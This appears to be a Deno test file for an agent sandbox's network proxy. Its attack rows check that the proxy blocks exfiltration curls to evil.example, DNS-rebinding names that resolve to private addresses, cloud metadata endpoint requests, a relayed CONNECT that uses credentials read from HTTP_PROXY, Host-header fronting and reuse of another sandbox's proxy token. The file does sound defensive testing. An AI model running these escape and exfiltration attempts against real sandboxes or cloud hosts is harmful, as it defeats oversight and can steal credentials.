// ATTACKS.md §4.2 rows about the proxy network mode (network "proxy"): the attacks run inside a
// sandbox whose only way out is the policy proxy; test servers live on the host's loopback
// under names a test resolver controls. Rows that need those servers turn on the proxy's
// private-address override (test-only); N7 and N8-proxy keep it off, as production does.
import { spawnSandboxed } from "../../../src/sandbox/mod.ts";
import type { SandboxProcess } from "../../../src/sandbox/mod.ts";
import { assert, assertEquals, assertMatch, assertNotIncludes } from "../../assert.ts";
import { echoServer, recordingResolver, recordingTcpServer } from "../proxy_fixture.ts";
import { type Attack, keyValues, python } from "./attack_table.ts";

const PROXY_POLICY = { network: "proxy" as const };

/** N5: a name that is not allowlisted gets the readable 403 and is never resolved. */
export function nonAllowlistedDomain(): Attack {
  const dns = recordingResolver({ "allowed.test": ["93.184.216.34"] });
  return {
    id: "N5",
    name: "non-allowlisted domain gets a proxy 403",
    needs: ["curl"],
    policy: () => ({ ...PROXY_POLICY, allowDomains: ["allowed.test"] }),
    options: { proxy: { resolve: dns.resolve } },
    script: `curl -sS https://evil.example/; echo tls=$?
curl -sS http://evil.example/steal; echo plain=$?`,
    expect: (r) => {
      const out = keyValues(r.stdout);
      assertEquals(out.tls, "56");
      assertMatch(r.stderr, /CONNECT tunnel failed, response 403/);
      assertMatch(
        r.stdout,
        /coop: blocked by sandbox policy: evil\.example:80 is not in the allowlist\. Do not retry via --noproxy, another resolver or a raw IP address/,
      );
      assertEquals(r.proxyDenials, [
        { host: "evil.example", port: 443, reason: "is not in the allowlist" },
        { host: "evil.example", port: 80, reason: "is not in the allowlist" },
      ]);
      assertEquals(dns.queries, [], "evil.example must never reach a resolver");
    },
  };
}

/** N6: an allowed host on a port the allowlist does not name. */
export function allowedHostOtherPort(): Attack {
  const dns = recordingResolver({ "allowed.test": ["127.0.0.1"], "plain.test": ["127.0.0.1"] });
  let server: ReturnType<typeof echoServer> | undefined;
  return {
    id: "N6",
    name: "allowed host, other port",
    needs: ["curl"],
    prepare: () => String((server = echoServer()).port),
    policy: (port) => ({ ...PROXY_POLICY, allowDomains: [`allowed.test:${port}`, "plain.test"] }),
    options: { proxy: { resolve: dns.resolve, allowPrivateAddresses: true } },
    script: `curl -sS -p http://allowed.test:$1/ok; echo ok=$?
curl -sS http://allowed.test:9999/; echo other=$?
curl -sS -p http://plain.test:22/; echo ssh=$?
curl -sS http://plain.test:$1/; echo unlisted=$?`,
    expect: (r, _ws, port) => {
      const out = keyValues(r.stdout);
      assertEquals(out.ok, "0");
      assertMatch(r.stdout, /path=\/ok/);
      assertEquals(out.ssh, "56");
      assertEquals(
        r.proxyDenials.map((d) => `${d.host}:${d.port} ${d.reason}`),
        [
          "allowed.test:9999 uses port 9999, which the allowlist does not allow for this host",
          "plain.test:22 uses port 22, which the allowlist does not allow for this host",
          `plain.test:${port} uses port ${port}, which the allowlist does not allow for this host`,
        ],
      );
    },
    teardown: () => server?.close(),
  };
}

/** N7: allowed names that resolve to private, loopback, CGNAT or IPv6-local addresses. */
export function allowedNameToPrivateAddress(): Attack {
  const answers: Record<string, string> = {
    ten: "10.0.0.5",
    lo: "127.0.0.2",
    v6lo: "::1",
    ula: "fd00::1",
    cgnat: "100.64.1.1",
    mapped: "::ffff:127.0.0.1",
    linklocal6: "fe80::1",
  };
  const dns = recordingResolver(
    Object.fromEntries(
      Object.entries(answers).map(([label, ip]) => [`${label}.attacker-allowed.example`, [ip]]),
    ),
  );
  return {
    id: "N7",
    name: "allowed name resolving to a private IP (DNS rebinding)",
    needs: ["curl"],
    policy: () => ({ ...PROXY_POLICY, allowDomains: ["*.attacker-allowed.example"] }),
    options: { proxy: { resolve: dns.resolve } }, // private-address override off
    script: `for n in ${Object.keys(answers).join(" ")}; do
  curl -sS -m 5 https://$n.attacker-allowed.example/; echo $n=$?
done`,
    expect: (r) => {
      const out = keyValues(r.stdout);
      for (const label of Object.keys(answers)) assertEquals(out[label], "56", label);
      assertEquals(r.proxyDenials.length, Object.keys(answers).length);
      for (const [i, [label, ip]] of Object.entries(answers).entries()) {
        const denial = r.proxyDenials[i];
        assertEquals(denial.host, `${label}.attacker-allowed.example`);
        assert(denial.reason.startsWith(`resolves to ${ip}`), denial.reason);
      }
      assertMatch(r.proxyDenials[0].reason, /private \(10\.0\.0\.0\/8\)/);
      assertMatch(r.proxyDenials[4].reason, /carrier-grade NAT/);
      // Checked as the IPv4 address it embeds, never as the text.
      assertMatch(
        r.proxyDenials[5].reason,
        /^resolves to ::ffff:127\.0\.0\.1 \(= 127\.0\.0\.1, IPv4-mapped, ::ffff:0:0\/96\), loopback \(127\.0\.0\.0\/8\)/,
      );
    },
  };
}

/** N8 through the proxy: metadata endpoints, even allowlisted by IP literal, are never dialled. */
export function metadataThroughProxy(): Attack {
  const dns = recordingResolver({ "metadata.google.internal": ["169.254.169.254"] });
  return {
    id: "N8-proxy",
    name: "metadata and link-local refused by the proxy",
    needs: ["curl"],
    policy: () => ({
      ...PROXY_POLICY,
      allowDomains: ["169.254.169.254", "metadata.google.internal", "[fd00:ec2::254]"],
    }),
    options: { proxy: { resolve: dns.resolve } },
    script: `curl -sS http://169.254.169.254/latest/meta-data/
curl -sS -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/
curl -sS 'http://[fd00:ec2::254]/latest/meta-data/'
curl -sS http://100.100.100.200/latest/meta-data/`,
    expect: (r) => {
      assertEquals(r.stdout.match(/blocked by sandbox policy/g)?.length, 4);
      const reasons = r.proxyDenials.map((d) => `${d.host} ${d.reason}`);
      // An IP-literal entry consents to private addresses, never to metadata endpoints.
      assertMatch(
        reasons[0],
        /^169\.254\.169\.254 resolves to .*link-local or cloud metadata.*not even for an IP-literal entry/,
      );
      assertMatch(reasons[1], /^metadata\.google\.internal resolves to 169\.254\.169\.254/);
      assertMatch(reasons[2], /^fd00:ec2::254 resolves to .*a cloud metadata endpoint/);
      assertEquals(reasons[3], "100.100.100.200 is not in the allowlist");
      assertEquals(dns.queries, ["metadata.google.internal"]);
    },
  };
}

/** N10: CONNECT re-issued through an in-sandbox relay, or nested inside an allowed tunnel. */
export function relayedConnect(): Attack {
  const dns = recordingResolver({ "allowed.test": ["127.0.0.1"] });
  let tcp: ReturnType<typeof recordingTcpServer> | undefined;
  return {
    id: "N10",
    name: "relayed CONNECT",
    needs: ["python3"],
    prepare: () => String((tcp = recordingTcpServer()).port),
    policy: (port) => ({ ...PROXY_POLICY, allowDomains: [`allowed.test:${port}`] }),
    options: { proxy: { resolve: dns.resolve, allowPrivateAddresses: true } },
    script: python(`
import base64, threading
port = int(sys.argv[1])
cred = os.environ["HTTP_PROXY"].split("//")[1].split("@")[0]
auth = "Proxy-Authorization: Basic " + base64.b64encode(cred.encode()).decode() + "\\r\\n"
def status(s):
    head = b""
    while b"\\r\\n\\r\\n" not in head:
        chunk = s.recv(1)
        if not chunk:
            break
        head += chunk
    return head.decode().split("\\r\\n")[0]
# A CONNECT nested in an allowed tunnel reaches only the allowed upstream.
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(("CONNECT allowed.test:%d HTTP/1.1\\r\\n" % port + auth + "\\r\\n").encode())
print("outer=" + status(s))
s.sendall(("CONNECT evil.example:443 HTTP/1.1\\r\\n" + auth + "\\r\\n").encode())
print("inner=" + s.recv(100).decode().strip())
s.close()
# A relay inside the sandbox re-issues the client's CONNECT to the proxy.
relay = socket.socket(socket.AF_UNIX)
relay.bind("/tmp/relay.sock")
relay.listen(1)
def serve():
    c, _ = relay.accept()
    up = socket.create_connection(("127.0.0.1", 3128))
    up.sendall(c.recv(4096))
    c.sendall(up.recv(4096))
    c.close()
threading.Thread(target=serve).start()
c = socket.socket(socket.AF_UNIX)
c.connect("/tmp/relay.sock")
c.sendall(("CONNECT evil.example:443 HTTP/1.1\\r\\nHost: allowed.test:%d\\r\\n" % port + auth + "\\r\\n").encode())
print("relayed=" + status(c))`),
    expect: (r) => {
      const out = keyValues(r.stdout);
      assertEquals(out.outer, "HTTP/1.1 200 Connection established");
      // The inner CONNECT was bytes in the tunnel: the allowed server got them, nothing else.
      assertEquals(out.inner, "tcp-ok");
      assertMatch(tcp!.received(), /^CONNECT evil\.example:443 HTTP\/1\.1\r\n/);
      // Keyed on the CONNECT authority, not on a Host header: the same 403 as a direct one.
      assertEquals(out.relayed, "HTTP/1.1 403 Blocked by Coop sandbox policy");
      assertEquals(r.proxyDenials, [
        { host: "evil.example", port: 443, reason: "is not in the allowlist" },
      ]);
      assertEquals(dns.queries, ["allowed.test"]);
    },
    teardown: () => tcp?.close(),
  };
}

/** N11: Host header fronting. Plain HTTP is rewritten; inside a tunnel it is residual risk. */
export function domainFronting(): Attack {
  const dns = recordingResolver({ "allowed.test": ["127.0.0.1"] });
  let server: ReturnType<typeof echoServer> | undefined;
  return {
    id: "N11",
    name: "domain fronting / Host mismatch (no TLS termination: tunnel is residual risk)",
    needs: ["curl"],
    prepare: () => String((server = echoServer()).port),
    policy: (port) => ({ ...PROXY_POLICY, allowDomains: [`allowed.test:${port}`] }),
    options: { proxy: { resolve: dns.resolve, allowPrivateAddresses: true } },
    script: `curl -sS -H 'Host: evil.example' http://allowed.test:$1/plain
curl -sS -p -H 'Host: evil.example' http://allowed.test:$1/tunnel`,
    expect: (r, _ws, port) => {
      // Plain HTTP: the proxy sets Host to the authority it checked.
      assertMatch(r.stdout, new RegExp(`^host=allowed.test:${port} path=/plain$`, "m"));
      assertNotIncludes(r.stdout, "host=evil.example path=/plain");
      // In a CONNECT tunnel the proxy sees no bytes it could check (and would see only
      // ciphertext with TLS): the Host header arrives unchanged — at the allowed server, which
      // is the only place the bytes can go. docs/network.md records this residual risk.
      assertMatch(r.stdout, /^host=evil\.example path=\/tunnel$/m);
      assertEquals(r.proxyDenials, []);
    },
    teardown: () => server?.close(),
  };
}

/** N20: another sandbox's proxy credentials are worthless here. */
export function proxyTokenReuse(): Attack {
  const dns = recordingResolver({ "allowed.test": ["127.0.0.1"] });
  let server: ReturnType<typeof echoServer> | undefined;
  let victim: SandboxProcess | undefined;
  let victimWorkspace = "";
  return {
    id: "N20",
    name: "proxy token reuse",
    needs: ["curl"],
    prepare: async () => {
      server = echoServer();
      victimWorkspace = await Deno.makeTempDir({ prefix: "coop-victim-" });
      // Another sandbox, alive during the attack, whose proxy URL the attacker obtained.
      victim = await spawnSandboxed(
        {
          workspace: victimWorkspace,
          network: "proxy",
          allowDomains: [`allowed.test:${server.port}`],
        },
        ["sh", "-c", "echo $HTTP_PROXY; sleep 30"],
        { proxy: { resolve: dns.resolve, allowPrivateAddresses: true } },
      );
      const url = await new Promise<string>((resolve) => {
        let text = "";
        victim!.stdout.on("data", (chunk: Uint8Array) => {
          text += new TextDecoder().decode(chunk);
          if (text.includes("\n")) resolve(text.trim());
        });
      });
      return `${server.port} ${url}`;
    },
    policy: (prepared) => ({
      ...PROXY_POLICY,
      allowDomains: [`allowed.test:${prepared.split(" ")[0]}`],
    }),
    options: { proxy: { resolve: dns.resolve, allowPrivateAddresses: true } },
    script: `set -- $1
[ "$2" != "$HTTP_PROXY" ] && echo different=yes
curl -sS -o /dev/null -w 'stolen=%{http_code}\\n' -x "$2" http://allowed.test:$1/
curl -sS -o /dev/null -w 'stolen_tunnel=%{http_code}\\n' -p -x "$2" http://allowed.test:$1/
curl -sS -o /dev/null -w 'bare=%{http_code}\\n' -x http://127.0.0.1:3128 http://allowed.test:$1/
curl -sS -o /dev/null -w 'own=%{http_code}\\n' http://allowed.test:$1/`,
    expect: (r) => {
      const out = keyValues(r.stdout);
      assertEquals(out.different, "yes", "each sandbox has its own token");
      assertEquals(out.stolen, "407");
      assertMatch(r.stderr, /CONNECT tunnel failed, response 407/);
      assertEquals(out.bare, "407");
      assertEquals(out.own, "200");
      assertEquals(r.proxyDenials, [], "a wrong token is refused before any policy decision");
    },
    teardown: async () => {
      victim?.kill();
      await victim?.status.catch(() => {});
      await server?.close();
      await Deno.remove(victimWorkspace, { recursive: true }).catch(() => {});
    },
  };
}
